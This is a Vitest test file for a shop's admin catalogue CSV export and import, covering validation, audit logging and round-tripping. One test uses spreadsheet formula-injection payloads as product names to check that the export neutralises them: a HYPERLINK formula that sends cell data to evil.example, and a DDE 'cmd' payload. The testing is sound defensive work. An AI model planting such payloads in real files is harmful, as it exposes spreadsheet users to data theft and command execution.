import { execFile } from 'node:child_process'
import fs from 'node:fs'
import path from 'node:path'
import { promisify } from 'node:util'
import { adminCatalogEndpoints, adminStockEndpoints, type StaffRole } from '@fanshop/core'
import { parse } from 'csv-parse/sync'
import { sql } from 'kysely'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { addLine, createCart } from '../../../tests/cart.ts'
import { type TestApp, testDialect, testPgUrl } from '../../../tests/test-app.ts'
import { callEndpoint, createAdminTestApp, demoStaff } from '../testing.ts'

let t: TestApp
let cookies: Record<StaffRole, string>
/** The columns every file has; the export adds the optional ones a file may leave out. */
const HEADER = 'product_slug,product_name,status,categories,sku,attributes,price,sale_price,on_hand'
const EXPORT_HEADER = `${HEADER},per_fan_limit`

beforeAll(async () => {
  ;({ t, cookies } = await createAdminTestApp())
})
afterAll(async () => t?.close())

const importCsv = (csv: unknown, cookie = cookies.manager) =>
  callEndpoint(t.app, adminStockEndpoints.importCatalog, { cookie, body: { csv } })

async function exported(): Promise<string> {
  const res = await callEndpoint(t.app, adminStockEndpoints.exportCatalog, { cookie: cookies.manager })
  expect(res.statusCode, res.body).toBe(200)
  expect(res.headers['content-type']).toMatch(/^text\/csv/)
  expect(res.headers['content-disposition']).toMatch(
    /attachment; filename="catalogue-\d{4}-\d{2}-\d{2}\.csv"/,
  )
  return res.body
}

const rowBySku = (sku: string) =>
  t.ctx.db
    .selectFrom('products')
    .select(['id', 'name', 'slug', 'regular_price', 'sale_price', 'stock_on_hand', 'parent_id', 'status'])
    .where('sku', '=', sku)
    .executeTakeFirst()

/** The catalogue's rows as the database holds them, to show that a refused file changed nothing. */
const snapshot = () =>
  t.ctx.db
    .selectFrom('products')
    .select(['id', 'name', 'sku', 'regular_price', 'sale_price', 'stock_on_hand', 'status'])
    .orderBy('id')
    .execute()

describe('the catalogue CSV export', () => {
  it('writes one row per variation with its product, categories, attributes, prices and on hand', async () => {
    const records = parse(await exported(), { columns: true }) as Record<string, string>[]
    expect(Object.keys(records[0]!).join(',')).toBe(EXPORT_HEADER)
    const tee = records.find((row) => row.sku === 'ETT-TEE-BLACK-S')
    expect(tee).toEqual({
      product_slug: 'extra-time-tour-tee',
      product_name: 'Extra Time Tour Tee',
      status: 'publish',
      categories: expect.stringMatching(/^[a-z0-9-]+(\|[a-z0-9-]+)*$/),
      sku: 'ETT-TEE-BLACK-S',
      attributes: 'colour:Black|size:S',
      price: '34.90',
      sale_price: '',
      on_hand: '12',
      per_fan_limit: '',
    })
    const poster = records.find((row) => row.sku === 'ETT-POSTER')
    expect(poster).toMatchObject({ attributes: '', on_hand: '7' })
    // Variable products themselves carry no stock and have no row of their own.
    expect(records.some((row) => row.sku === 'ETT-TEE')).toBe(false)
  })

  it('writes a cell a spreadsheet would run as a formula with a leading quote, and imports it back as it was', async () => {
    const names = [
      '=HYPERLINK("http://evil.example/?"&A1,"Click")',
      "@SUM(1+1)*cmd|' /C calc'!A0",
      "'=quoted already",
    ]
    const res = await importCsv(
      [
        HEADER,
        ...names.map(
          (name, i) => `formula-${i},"${name.replaceAll('"', '""')}",draft,,FORMULA-${i},,5.00,,1`,
        ),
      ].join('\n'),
    )
    expect(res.statusCode, res.body).toBe(200)
    // A name that starts with a quote already, as the product form may save it.
    await t.ctx.db.updateTable('products').set({ name: names[2]! }).where('sku', '=', 'FORMULA-2').execute()
    const csv = await exported()
    const records = parse(csv, { columns: true }) as Record<string, string>[]
    expect(names.map((_, i) => records.find((row) => row.sku === `FORMULA-${i}`)?.product_name)).toEqual(
      names.map((name) => `'${name}`),
    )
    const again = await importCsv(csv)
    expect(again.statusCode, again.body).toBe(200)
    expect(await Promise.all(names.map(async (_, i) => (await rowBySku(`FORMULA-${i}`))?.name))).toEqual(
      names,
    )
  })

  it('marks a variation taken off its product as retired, and an import of it keeps it off sale', async () => {
    const created = await importCsv(
      [
        HEADER,
        'retire-tee,Retire Tee,publish,,RETIRE-BM,colour:Black|size:M,20.00,,5',
        'retire-tee,Retire Tee,publish,,RETIRE-WM,colour:White|size:M,20.00,,5',
      ].join('\n'),
    )
    expect(created.statusCode, created.body).toBe(200)
    const productId = (await rowBySku('RETIRE-BM'))!.parent_id!
    const params = { id: productId }
    const product = (
      await callEndpoint(t.app, adminCatalogEndpoints.product, { cookie: cookies.manager, params })
    ).json()
    const kept = product.variations.find((variation: { sku: string }) => variation.sku === 'RETIRE-BM')
    const edit = await callEndpoint(t.app, adminCatalogEndpoints.updateProduct, {
      cookie: cookies.manager,
      params,
      body: {
        type: 'variable',
        name: product.name,
        slug: product.slug,
        status: product.status,
        variations: [{ id: kept.id, terms: kept.terms, sku: kept.sku, price: kept.price, stock: 5 }],
      },
    })
    expect(edit.statusCode, edit.body).toBe(200)
    const csv = await exported()
    const records = parse(csv, { columns: true }) as Record<string, string>[]
    expect(records.filter((row) => row.product_slug === 'retire-tee').map((row) => row.status)).toEqual([
      'publish',
      'retired',
    ])
    const again = await importCsv(csv)
    expect(again.statusCode, again.body).toBe(200)
    const retired = (await rowBySku('RETIRE-WM'))!
    expect(retired.status).toBe('draft')
    expect((await addLine(t, await createCart(t), retired.id, 1)).statusCode).toBe(404)
    expect((await rowBySku('RETIRE-BM'))!.status).toBe('publish')
  })

  it('imports back unchanged: nothing moves', async () => {
    const before = await snapshot()
    const res = await importCsv(await exported())
    expect(res.statusCode, res.body).toBe(200)
    expect(res.json()).toMatchObject({ productsCreated: 0, variationsCreated: 0, stockChanges: 0 })
    expect(await snapshot()).toEqual(before)
  })
})

describe('the catalogue CSV import', () => {
  it('refuses a file with one bad row, naming the row and column, and changes nothing', async () => {
    const lines = (await exported()).trimEnd().split('\n')
    const at = lines.findIndex((line) => line.includes(',ETT-POSTER,'))
    // A good change in row 2 that must not land, and a bad price further down.
    lines[1] = lines[1]!.replace(/,\d+$/, ',999')
    lines[at] = lines[at]!.replace(/,(\d+\.\d{2}),,/, ',twelve,,')
    const before = await snapshot()
    const res = await importCsv(lines.join('\n'))
    expect(res.statusCode).toBe(422)
    expect(res.json()).toEqual({
      statusCode: 422,
      message: expect.stringContaining('nothing was changed'),
      issues: [{ row: at + 1, column: 'price', message: 'must be a price in euros like 29.90' }],
      issueCount: 1,
    })
    expect(await snapshot()).toEqual(before)
  })

  // A file of thousands of bad rows answered every problem: megabytes, and a table no one reads.
  it('lists the first 100 problems of a file with more, by row, and says how many there are', async () => {
    const rows = Array.from(
      { length: 150 },
      (_, i) => `bad-${i},Bad ${i},publish,,BAD-${i},,twelve,,${i % 2 ? 'lots' : '1'}`,
    )
    const res = await importCsv([HEADER, ...rows].join('\n'))
    expect(res.statusCode).toBe(422)
    const body = res.json()
    expect(body.issueCount).toBe(225)
    expect(body.message).toBe(
      'The file was not imported: 225 problems to fix; nothing was changed. The first 100 are listed.',
    )
    expect(body.issues).toHaveLength(100)
    expect(body.issues[0]).toEqual({
      row: 2,
      column: 'price',
      message: 'must be a price in euros like 29.90',
    })
    expect(body.issues.map((issue: { row: number }) => issue.row)).toEqual(
      [...body.issues.map((issue: { row: number }) => issue.row)].sort((a, b) => a - b),
    )
    expect(body.issues.at(-1).row).toBeLessThan(70)
  })

  it('checks the rows against the shop: categories, attributes, SKUs of other products, stock held', async () => {
    const held = (await rowBySku('OSS-LP'))!
    expect((await addLine(t, await createCart(t), held.id, 2)).statusCode).toBe(201)
    const csv = [
      HEADER,
      'new-scarf,Scarf,publish,no-such-category,SCARF-1,,15.00,,5',
      'new-scarf-2,Scarf 2,publish,,ETT-POSTER,,15.00,,5',
      'new-tee,New Tee,publish,,NEW-TEE-1,colour:Plaid|size:M,20.00,,5',
      `${'x'.repeat(3)},X,publish,,X-1,,1.00,2.00,1`,
      'the-oss-lp,OSS,draft,,OSS-LP,,20.00,,1',
      'oss-lp-new,OSS LP,publish,,OSS-LP-2,,20.00,,1',
    ].join('\n')
    const res = await importCsv(csv)
    expect(res.statusCode).toBe(422)
    expect(res.json().issues).toEqual([
      { row: 2, column: 'categories', message: 'no category "no-such-category" (item 1)' },
      { row: 3, column: 'sku', message: expect.stringContaining('belongs to another product') },
      { row: 4, column: 'attributes', message: 'attribute "colour" has no term "Plaid"' },
      { row: 5, column: 'sale_price', message: 'must be below the price' },
      { row: 6, column: 'sku', message: expect.stringContaining('belongs to another product') },
    ])
    const figures = await t.ctx.db
      .selectFrom('products')
      .select(['stock_held', 'stock_sold'])
      .where('id', '=', held.id)
      .executeTakeFirstOrThrow()
    const committed = figures.stock_held + figures.stock_sold
    expect(figures.stock_held).toBe(2)
    const lp = (await exported()).split('\n').find((line) => line.includes(',OSS-LP,'))!
    const low = await importCsv(`${EXPORT_HEADER}\n${lp.replace(/,\d+,(\d*)$/, ',1,$1')}`)
    expect(low.json().issues).toEqual([
      {
        row: 2,
        column: 'on_hand',
        message: `must be at least ${committed}: that many are held in carts or sold`,
      },
    ])
  })

  /*
   * A variation was named, and its slug worked out, in the order the file gave its attributes:
   * `size:M|colour:Black` renamed "Tee - Black, M" to "Tee - M, Black", and a new SKU with the
   * terms of an existing variation in the other order made a second variation of them.
   */
  it("reads a row's attributes in the shop's order of attributes, whatever the file's", async () => {
    const lines = (await exported()).trimEnd().split('\n')
    const swap = (line: string) => line.replace(/,colour:([^|,]+)\|size:([^|,]+),/, ',size:$2|colour:$1,')
    const teeRows = lines.filter((line) => line.startsWith('extra-time-tour-tee,'))
    expect(teeRows.length).toBeGreaterThan(1)
    expect(teeRows.every((line) => swap(line) !== line)).toBe(true)
    const before = await snapshot()
    const res = await importCsv([EXPORT_HEADER, ...teeRows.map(swap)].join('\n'))
    expect(res.statusCode, res.body).toBe(200)
    expect(res.json()).toMatchObject({ variationsCreated: 0, stockChanges: 0 })
    expect(await snapshot()).toEqual(before)
    expect((await rowBySku('ETT-TEE-BLACK-S'))?.name).toBe('Extra Time Tour Tee - Black, S')

    const again = swap(teeRows.find((line) => line.includes(',ETT-TEE-BLACK-S,'))!).replace(
      ',ETT-TEE-BLACK-S,',
      ',ETT-TEE-BLACK-S-2,',
    )
    const twice = await importCsv([EXPORT_HEADER, ...teeRows, again].join('\n'))
    expect(twice.statusCode, twice.body).toBe(422)
    expect(twice.json().issues).toEqual([
      {
        row: teeRows.length + 2,
        column: 'attributes',
        message: 'a variation with these attributes exists already (SKU ETT-TEE-BLACK-S)',
      },
    ])
    const repeated = await importCsv(
      [
        HEADER,
        'ordered-tee,Ordered Tee,draft,,ORD-BM,colour:Black|size:M,20.00,,5',
        'ordered-tee,Ordered Tee,draft,,ORD-MB,size:M|colour:Black,20.00,,5',
      ].join('\n'),
    )
    expect(repeated.statusCode, repeated.body).toBe(422)
    expect(repeated.json().issues).toEqual([
      { row: 3, column: 'attributes', message: 'repeats the attributes of another row of this product' },
    ])
    expect(await snapshot()).toEqual(before)
  })

  it('refuses rows of one file that would give two products or variations the same slug', async () => {
    const before = await snapshot()
    const res = await importCsv(
      [
        HEADER,
        'aud,Aud,publish,,AUD-BM,colour:Black|size:M,20.00,,5',
        'aud-black-m,Aud Black M,publish,,AUD-PLAIN,,20.00,,5',
        'aud-black,Aud Black,publish,,AUD-B-M,size:M,20.00,,5',
      ].join('\n'),
    )
    expect(res.statusCode, res.body).toBe(422)
    expect(res.json().issues).toEqual([
      {
        row: 2,
        column: 'attributes',
        message: 'gives its variation the slug "aud-black-m", which row 3 uses too',
      },
      {
        row: 4,
        column: 'attributes',
        message: 'gives its variation the slug "aud-black-m", which row 3 uses too',
      },
    ])
    expect(await snapshot()).toEqual(before)
  })

  it('refuses new attributes for an existing variation, whose terms the import does not change', async () => {
    const row = (await exported()).split('\n').find((line) => line.includes(',ETT-TEE-BLACK-XS,'))!
    const before = await snapshot()
    const res = await importCsv(
      `${EXPORT_HEADER}\n${row.replace('colour:Black|size:XS', 'colour:White|size:M')}`,
    )
    expect(res.statusCode, res.body).toBe(422)
    expect(res.json().issues).toEqual([
      {
        row: 2,
        column: 'attributes',
        message:
          'must be colour:Black|size:XS, the attributes of the variation with SKU ETT-TEE-BLACK-XS: a new variation takes a new SKU',
      },
    ])
    expect(await snapshot()).toEqual(before)
    // The same attributes written in another case are the same terms.
    const cased = await importCsv(
      `${EXPORT_HEADER}\n${row.replace('colour:Black|size:XS', 'colour:BLACK|size:xs')}`,
    )
    expect(cased.statusCode, cased.body).toBe(200)
    expect(await snapshot()).toEqual(before)
  })

  it('refuses a header without the columns, a broken file and a body without CSV', async () => {
    const header = await importCsv('sku,price\nA,1.00')
    expect(header.statusCode).toBe(422)
    expect(header.json().issues).toContainEqual({
      row: 1,
      column: 'on_hand',
      message: 'is missing from the header',
    })
    // A column given twice: which of its cells would count is no one's guess to make.
    const before = await snapshot()
    const twice = await importCsv(`${HEADER},price\ntwice-cap,Twice Cap,publish,,TWICE-CAP,,10.00,,1,99.00`)
    expect(twice.statusCode).toBe(422)
    expect(twice.json().issues).toEqual([{ row: 1, column: 'price', message: 'is in the header twice' }])
    expect(await snapshot()).toEqual(before)
    const broken = await importCsv(`${HEADER}\n"open,quote`)
    expect(broken.statusCode).toBe(422)
    expect(broken.json().issues).toHaveLength(1)
    for (const csv of [undefined, 12, '']) {
      const res = await importCsv(csv)
      expect(res.statusCode).toBe(400)
      expect(res.json()).toEqual({ statusCode: 400, message: expect.stringContaining('csv') })
    }
  })

  it('applies a good file in full: new products and variations, prices, and audited stock', async () => {
    const category = await t.ctx.db
      .selectFrom('categories')
      .select('slug')
      .orderBy('id')
      .executeTakeFirstOrThrow()
    const existing = (await rowBySku('ETT-TEE-WHITE-M'))!
    const csv = [
      HEADER,
      `stadium-scarf,Stadium Scarf,publish,${category.slug},SCARF-1,,15.00,12.50,30`,
      `away-tee,Away Tee,draft,${category.slug},AWAY-BLACK-M,colour:black|size:M,25.00,,4`,
      `away-tee,Away Tee,draft,${category.slug},AWAY-WHITE-L,colour:White|size:L,25.00,,6`,
      `extra-time-tour-tee,Extra Time Tour Tee,publish,${category.slug},ETT-TEE-WHITE-M,colour:White|size:M,36.00,,${Number(existing.stock_on_hand) + 10}`,
    ].join('\r\n')
    const res = await importCsv(csv)
    expect(res.statusCode, res.body).toBe(200)
    expect(res.json()).toEqual({
      rows: 4,
      productsCreated: 2,
      productsUpdated: 1,
      variationsCreated: 2,
      variationsUpdated: 1,
      stockChanges: 1,
    })
    expect(await rowBySku('SCARF-1')).toMatchObject({
      slug: 'stadium-scarf',
      regular_price: 1500,
      sale_price: 1250,
      stock_on_hand: 30,
      parent_id: null,
    })
    const away = (await rowBySku('AWAY-BLACK-M'))!
    expect(away).toMatchObject({ slug: 'away-tee-black-m', name: 'Away Tee - Black, M', stock_on_hand: 4 })
    const parent = await t.ctx.db
      .selectFrom('products')
      .select(['type', 'status', 'stock_on_hand'])
      .where('id', '=', away.parent_id!)
      .executeTakeFirstOrThrow()
    expect(parent).toEqual({ type: 'variable', status: 'draft', stock_on_hand: null })
    expect(await rowBySku('ETT-TEE-WHITE-M')).toMatchObject({
      regular_price: 3600,
      stock_on_hand: Number(existing.stock_on_hand) + 10,
    })
    const audit = await t.ctx.db
      .selectFrom('admin_audit')
      .selectAll()
      .where('entity_id', '=', String(existing.id))
      .where('action', '=', 'stock.adjust')
      .execute()
    expect(audit.map((entry) => JSON.parse(entry.after!))).toEqual([
      { onHand: Number(existing.stock_on_hand) + 10, reason: 'import', note: 'CSV import' },
    ])
    expect(audit[0]!.staff_email).toBe(demoStaff('manager').email)
    const summary = await t.ctx.db
      .selectFrom('admin_audit')
      .select('after')
      .where('action', '=', 'catalog.import')
      .orderBy('id', 'desc')
      .executeTakeFirstOrThrow()
    expect(JSON.parse(summary.after!)).toMatchObject({ productsCreated: 2 })
    // The new products are in the shop (the draft one only in the back office).
    const store = await t.app.inject('/wp-json/wc/v3/products?slug=stadium-scarf')
    expect(store.json()).toEqual([expect.objectContaining({ name: 'Stadium Scarf', stock_quantity: 30 })])
  })

  it('audits each product it creates or changes, with what changed before and after', async () => {
    const [one, two] = await t.ctx.db.selectFrom('categories').select('slug').orderBy('id').limit(2).execute()
    const auditOf = async (sku: string) => {
      const { id, parent_id } = (await rowBySku(sku))!
      const entries = await t.ctx.db
        .selectFrom('admin_audit')
        .selectAll()
        .where('entity', '=', 'product')
        .where('entity_id', '=', String(parent_id ?? id))
        .where('action', 'like', 'product.%')
        .orderBy('id')
        .execute()
      return entries.map((entry) => ({
        action: entry.action,
        staff: entry.staff_email,
        before: entry.before === null ? null : JSON.parse(entry.before),
        after: JSON.parse(entry.after!),
      }))
    }
    const created = await importCsv(
      [
        HEADER,
        `audit-cap,Audit Cap,draft,${one!.slug},AUDIT-CAP,,12.00,,3`,
        `audit-tee,Audit Tee,draft,${one!.slug},AUDIT-TEE-BM,colour:Black|size:M,20.00,,5`,
      ].join('\n'),
    )
    expect(created.statusCode, created.body).toBe(200)
    expect(await auditOf('AUDIT-CAP')).toEqual([
      {
        action: 'product.create',
        staff: demoStaff('manager').email,
        before: null,
        after: {
          name: 'Audit Cap',
          status: 'draft',
          categories: [one!.slug],
          perFanLimit: null,
          sku: 'AUDIT-CAP',
          price: '12.00',
          salePrice: '',
          onHand: 3,
        },
      },
    ])
    const variation = (await rowBySku('AUDIT-TEE-BM'))!
    const changed = await importCsv(
      [
        HEADER,
        `audit-cap,Audit Cap Renamed,publish,${two!.slug},AUDIT-CAP,,14.50,,3`,
        `audit-tee,Audit Tee,draft,${one!.slug},AUDIT-TEE-BM,colour:Black|size:M,20.00,18.00,7`,
      ].join('\n'),
    )
    expect(changed.statusCode, changed.body).toBe(200)
    expect((await auditOf('AUDIT-CAP'))[1]).toEqual({
      action: 'product.update',
      staff: demoStaff('manager').email,
      before: { name: 'Audit Cap', status: 'draft', categories: [one!.slug], price: '12.00' },
      after: { name: 'Audit Cap Renamed', status: 'publish', categories: [two!.slug], price: '14.50' },
    })
    const variationEntry = (pair: object) => ({ id: variation.id, sku: 'AUDIT-TEE-BM', ...pair })
    expect((await auditOf('AUDIT-TEE-BM'))[1]).toMatchObject({
      action: 'product.update',
      before: { variations: [variationEntry({ price: '20.00', salePrice: '', onHand: 5, active: true })] },
      after: {
        variations: [variationEntry({ price: '20.00', salePrice: '18.00', onHand: 7, active: true })],
      },
    })
    // A file that changes nothing of a product leaves no entry for it.
    expect((await importCsv(await exported())).statusCode).toBe(200)
    expect(await auditOf('AUDIT-CAP')).toHaveLength(2)
  })

  it("sets a product's limit per fan from its column, keeps it in a file without one, and refuses a bad one", async () => {
    const capOf = async (sku: string) => {
      const { parent_id } = (await rowBySku(sku))!
      const product = await callEndpoint(t.app, adminCatalogEndpoints.product, {
        cookie: cookies.manager,
        params: { id: parent_id! },
      })
      return product.json().perFanLimit
    }
    const rows = (limit: string, price = '30.00') => [
      `capped-tee,Capped Tee,publish,,CAPPED-BM,colour:Black|size:M,${price},,5,${limit}`,
      `capped-tee,Capped Tee,publish,,CAPPED-BL,colour:Black|size:L,${price},,5,${limit}`,
    ]
    const created = await importCsv([EXPORT_HEADER, ...rows('2')].join('\n'))
    expect(created.statusCode, created.body).toBe(200)
    expect(await capOf('CAPPED-BM')).toBe(2)
    const records = parse(await exported(), { columns: true }) as Record<string, string>[]
    expect(
      records.filter((row) => row.product_slug === 'capped-tee').map((row) => row.per_fan_limit),
    ).toEqual(['2', '2'])

    // A file written before the column existed changes the price and leaves the cap as it is.
    const older = rows('', '32.00').map((line) => line.replace(/,$/, ''))
    expect((await importCsv([HEADER, ...older].join('\n'))).statusCode).toBe(200)
    expect(await capOf('CAPPED-BM')).toBe(2)

    const before = await snapshot()
    const [first, second] = rows('3')
    const refused = await importCsv(
      [EXPORT_HEADER, first, second!.replace(/,3$/, ',4'), rows('0')[0]].join('\n'),
    )
    expect(refused.json().issues).toEqual([
      { row: 3, column: 'per_fan_limit', message: 'differs from row 2 of the same product' },
      {
        row: 4,
        column: 'per_fan_limit',
        message: 'must be empty (no limit) or a whole number from 1 to 999',
      },
    ])
    expect(await snapshot()).toEqual(before)
    expect(await capOf('CAPPED-BM')).toBe(2)

    expect((await importCsv([EXPORT_HEADER, ...rows('')].join('\n'))).statusCode).toBe(200)
    expect(await capOf('CAPPED-BM')).toBeNull()
  })

  it('holds price and stock to the limits the product form and the stock page hold them to', async () => {
    const tooDear = await importCsv(`${HEADER}\nlimit-cap,Limit Cap,publish,,LIMIT-CAP,,9999999.99,,5`)
    expect(tooDear.json().issues).toEqual([{ row: 2, column: 'price', message: 'must be at most 99999.99' }])
    const most = await importCsv(`${HEADER}\nlimit-cap,Limit Cap,publish,,LIMIT-CAP,,99999.99,,1000000`)
    expect(most.statusCode, most.body).toBe(200)
    const { id } = (await rowBySku('LIMIT-CAP'))!
    const product = (
      await callEndpoint(t.app, adminCatalogEndpoints.product, { cookie: cookies.manager, params: { id } })
    ).json()
    const resave = await callEndpoint(t.app, adminCatalogEndpoints.updateProduct, {
      cookie: cookies.manager,
      params: { id },
      body: {
        type: product.type,
        name: product.name,
        slug: product.slug,
        status: product.status,
        sku: product.sku,
        price: product.price,
        stock: product.stock.onHand,
      },
    })
    expect(resave.statusCode, resave.body).toBe(200)
    expect(await rowBySku('LIMIT-CAP')).toMatchObject({ regular_price: 9_999_999, stock_on_hand: 1_000_000 })
  })

  it('refuses a file naming more categories and attributes than one query can bind by row, not with a 500', async () => {
    // 400 rows of 100 four-letter slugs each: 40,000 names, more than SQLite binds in one query.
    const slugs = (prefix: string, row: number, count: number) =>
      Array.from({ length: count }, (_, i) => `${prefix}${(row * count + i).toString(36).padStart(3, '0')}`)
    const rows = Array.from(
      { length: 400 },
      (_, r) => `many-${r},Many,publish,${slugs('c', r, 100).join('|')},MANY-${r},,1.00,,1`,
    )
    const categories = await importCsv([HEADER, ...rows].join('\n'))
    expect(categories.statusCode, categories.body.slice(0, 200)).toBe(422)
    expect(categories.json().issues[0]).toEqual({
      row: 2,
      column: 'categories',
      message: 'no category "c000" (item 1)',
    })
    const pairs = Array.from(
      { length: 600 },
      (_, r) =>
        `many-${r},Many,publish,,MANY-${r},${slugs('a', r, 70)
          .map((slug) => `${slug}:X`)
          .join('|')},1.00,,1`,
    )
    const attributes = await importCsv([HEADER, ...pairs].join('\n'))
    expect(attributes.statusCode, attributes.body.slice(0, 200)).toBe(422)
    expect(attributes.json().issues[0]).toEqual({
      row: 2,
      column: 'attributes',
      message: 'no attribute "a000"',
    })
  })

  it('imports a file from the CLI (npm run import -- FILE)', async () => {
    const file = path.join(t.ctx.config.dataDir, 'cli-import.csv')
    fs.writeFileSync(file, `${HEADER}\ncli-mug,CLI Mug,publish,,CLI-MUG,,9.00,,11\n`)
    const env: Record<string, string> = {
      ...(process.env as Record<string, string>),
      DATA_DIR: t.ctx.config.dataDir,
      DATABASE_URL: '',
      JWT_SECRET: 'test-secret-that-is-long-enough-for-hs256-signing',
    }
    if (testDialect === 'postgres') {
      const { rows } = await sql<{ schema: string }>`select current_schema() as schema`.execute(t.ctx.db)
      env.DATABASE_URL = testPgUrl
      env.PGOPTIONS = `-c search_path=${rows[0]!.schema}`
    }
    const cli = path.resolve(import.meta.dirname, 'import-cli.ts')
    const tsx = path.resolve('node_modules/.bin/tsx')
    const { stdout } = await promisify(execFile)(tsx, [cli, file], {
      env,
      cwd: t.ctx.config.dataDir,
    })
    expect(stdout).toContain('Imported 1 row(s): 1 product(s) created')
    expect(await rowBySku('CLI-MUG')).toMatchObject({ slug: 'cli-mug', stock_on_hand: 11 })
    const bad = `${HEADER}\ncli-mug,CLI Mug,publish,,CLI-MUG,,9.00,,many\n`
    fs.writeFileSync(file, bad)
    const refused = await promisify(execFile)(tsx, [cli, file], {
      env,
      cwd: t.ctx.config.dataDir,
    }).catch((error: { code: number; stderr: string }) => error)
    expect(refused).toMatchObject({
      code: 1,
      stderr: expect.stringContaining('row 2, on_hand: must be a whole number'),
    })
    expect(await rowBySku('CLI-MUG')).toMatchObject({ stock_on_hand: 11 })
  }, 120_000)
})
